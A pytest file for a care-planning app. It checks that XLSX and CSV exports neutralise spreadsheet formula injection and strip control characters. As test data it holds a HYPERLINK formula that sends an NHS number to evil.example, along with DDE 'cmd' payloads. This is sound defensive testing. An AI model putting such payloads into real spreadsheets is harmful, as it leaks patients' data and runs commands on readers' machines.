"""Exports cannot be turned against their reader (OWASP, "CSV Injection").

A family name imported as ``=HYPERLINK("http://…/leak?"&C2,"Open")`` was a live formula
in the caseload XLSX (C2 is another person's NHS number), CSV was not escaped either, and
a name with a control character made every XLSX export crash and wrote the name into
the log. The names are written here with plain SQL, as an older store or a hostile
import before the input limits may hold them.
"""

from __future__ import annotations

import csv
import logging
from pathlib import Path

import openpyxl
import pytest
from export_sample import TODAY, build, reader_of_everyone

from careplan.cli import main
from careplan.export.cells import TRIGGERS
from careplan.store import Store

HOSTILE = '=HYPERLINK("http://evil.example/leak?"&C2,"Open")'
OTHERS = ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\tTab", "\rCR"]


@pytest.fixture
def store_path(tmp_path: Path, signed_in) -> tuple[Path, list[str]]:  # type: ignore[no-untyped-def]
    path = tmp_path / "store.db"
    with Store.open(path) as store:
        build(store)
        person = store.query("SELECT id FROM persons LIMIT 1")[0]["id"]
        # The caseload shows "given family": the given name starts the cell.
        store.conn.execute("UPDATE persons SET given_name = ?, family_name = ? WHERE id = ?",
                           (HOSTILE, "Bell\x07", person))
        store.conn.commit()
    return path, reader_of_everyone(path, signed_in)


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def test_caseload_xlsx_holds_no_formula(store_path, tmp_path: Path, caplog) -> None:  # type: ignore[no-untyped-def]
    path, user = store_path
    out = tmp_path / "caseload.xlsx"
    with caplog.at_level(logging.DEBUG):
        assert main(["export", "table", "caseload", "--db", str(path), *user, "--out",
                     str(out), "--today", TODAY.isoformat()]) == 0
    cells = _xlsx_cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    hostile = [t for t in texts if HOSTILE in t]
    assert hostile, "the name is kept, as text"
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str)
               and c.value.startswith(TRIGGERS))
    assert not [t for t in texts if "\x07" in t]
    assert "Bell" not in caplog.text and HOSTILE not in caplog.text


def test_caseload_csv_neutralises_formulas(store_path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path, user = store_path
    out = tmp_path / "caseload.csv"
    assert main(["export", "table", "caseload", "--db", str(path), *user, "--out", str(out),
                 "--today", TODAY.isoformat()]) == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert [c for c in cells if c.startswith("'" + HOSTILE[:10])]
    assert not [c for c in cells if "\x07" in c]


@pytest.mark.parametrize("name", ["handoffs", "referrals", "actions", "flags"])
def test_every_table_holds_no_formula(store_path, tmp_path: Path, name: str) -> None:  # type: ignore[no-untyped-def]
    path, user = store_path
    with Store.open(path, create=False) as store:
        for i, text in enumerate(OTHERS):
            store.conn.execute("UPDATE actions SET description = ? WHERE rowid = ?",
                               (text, i + 1))
        store.conn.commit()
    for suffix in (".xlsx", ".csv"):
        out = tmp_path / f"{name}{suffix}"
        assert main(["export", "table", name, "--db", str(path), *user, "--out", str(out),
                     "--today", TODAY.isoformat()]) == 0
        if suffix == ".xlsx":
            assert not [c for c in _xlsx_cells(out) if c.data_type == "f"]
        else:
            with out.open(encoding="utf-8-sig", newline="") as fh:
                assert not [c for row in csv.reader(fh) for c in row if c.startswith(TRIGGERS)]


def test_funding_workbook_holds_no_formula(store_path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """The workbook names the neighbourhood it covers: a hostile one stays text."""
    path, user = store_path
    with Store.open(path, create=False) as store:
        store.conn.execute("UPDATE persons SET neighbourhood = ?", (HOSTILE,))
        store.conn.commit()
    out = tmp_path / "funding.xlsx"
    assert main(["export", "funding", "--db", str(path), *user, "--out", str(out),
                 "--today", TODAY.isoformat(), "--neighbourhood", HOSTILE]) == 0
    cells = _xlsx_cells(out)
    assert not [c for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value == HOSTILE and c.quotePrefix
               for c in cells)
